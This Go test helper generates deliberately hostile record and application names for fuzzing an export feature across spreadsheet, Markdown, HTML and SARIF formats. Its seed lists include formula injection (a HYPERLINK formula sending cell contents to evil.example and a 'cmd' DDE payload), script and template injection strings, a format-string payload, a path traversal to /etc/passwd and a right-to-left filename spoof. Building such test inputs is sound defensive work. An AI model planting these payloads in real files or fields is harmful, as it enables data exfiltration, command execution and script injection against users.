package exporttest

import (
	"fmt"
	"strings"
)

// Names returns n different names as outsiders could choose them for records, rules and applications:
// each begins or ends with something that has a meaning in one of the formats. The same n gives the
// same names.
func Names(n int) []string {
	seeds := hostile()
	out, taken := make([]string, 0, n), make(map[string]bool, n)
	for i := 0; len(out) < n; i++ {
		name := seeds[i%len(seeds)]
		if i >= len(seeds) {
			name = combined(name, seeds[(i*7+i/len(seeds))%len(seeds)], i)
		}
		if !taken[name] {
			taken[name] = true
			out = append(out, name)
		}
	}
	return out
}

// combined joins two names in the i-th way.
func combined(a, b string, i int) string {
	switch i % 5 {
	case 0:
		return fmt.Sprintf("%s %d", a, i)
	case 1:
		return fmt.Sprintf("%s%s%d", a, b, i)
	case 2:
		return fmt.Sprintf("%s\n%s %d", a, b, i)
	case 3:
		return fmt.Sprintf("%d %s %s", i, a, b)
	default:
		return fmt.Sprintf("%s | %s | %d", a, b, i)
	}
}

func hostile() []string {
	all := append(formulas(), markups()...)
	return append(all, encodings()...)
}

// formulas are texts that spreadsheets may evaluate.
func formulas() []string {
	return []string{
		"=1+1", `=HYPERLINK("https://evil.example/?x="&A1,"click")`, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+9)", "\t=1+1", "\r=1+1", "\n=1+1",
		"＝1+1", "＋1", "－1", "＠SUM(1)",
		"'=1+1", "''=1", "'quoted", "a,b", `a"b`, `"`, `""`, "a\r\nb", "a;b", "=", "'", "'-",
	}
}

// markups are texts with a meaning in Markdown, HTML or SARIF.
func markups() []string {
	return []string{
		"[click](https://evil.example)", "![x](https://evil.example/x.png)", "<img src=x onerror=alert(1)>", "<script>alert(1)</script>",
		"</script>", "<!-- ", "-->",
		"http://evil.example", "https://evil.example/a_b?c=d", "www.evil.example", "WWW.evil.example", "ftp://evil.example",
		"<https://evil.example>", "mailto:a@evil.example",
		"xmpp:a@evil.example", "user@evil.example", "<user@evil.example>", "@everyone", "#1", "GH-1", "# heading", "## heading ##",
		"Heading\n====", "Heading\n----", "> quote", "- item", "1. item",
		"a | b", "|", `a \| b`, `\|`, `\\|`, "| a | b |\n| --- | --- |\n| c | d |", "`code`", "`", "``", "```\nfence\n```", "~~~", "a`b|c`d",
		"*em* **strong** _em_ __strong__ ~~del~~",
		`\`, `\\`, `\[x](y)`, "&lt;b&gt;", "&#35;", "&amp;", "[x]: https://evil.example", "[^1]", "[^1]: note", "$x$", "***", "---", "+++",
		"    indented", "[x][y]", "]()", "](", "a  \nb", "![", "- [ ] task",
		"{0}", "{{0}}", "{", "}", "[a](0)", "<details><summary>x", "{{constructor.constructor('alert(1)')()}}", "${7*7}", "%s%n",
		"javascript:alert(1)", ":tada:", "::1",
	}
}

// encodings are texts that are long, meaningless or hard to display.
func encodings() []string {
	return []string{
		"a\x00b", "\x1b[31mred", "\u202Egnp.exe", "zero\u200Bwidth", "\uFEFFbom", "line\u2028sep\u2029par", "\u0085nel", "é日本語😀",
		strings.Repeat("😀", 400), strings.Repeat("x", 3000),
		strings.Repeat("<&>\u2028", 2000), strings.Repeat("\x01", 1500), "../../etc/passwd", "a/b", "..", ".", "%2e%2e", "a?b#c", " leading",
		"trailing ", "   ", "\u00a0", strings.Repeat("`", 60), "null", "0", "xn--80ak6aa92e.example",
		"*.example.com", "_dmarc.example.com", "\"}],\"x\":[{\"", "]}\n{", "\\u0000", "\\", "\r", "\n", "\t",
	}
}
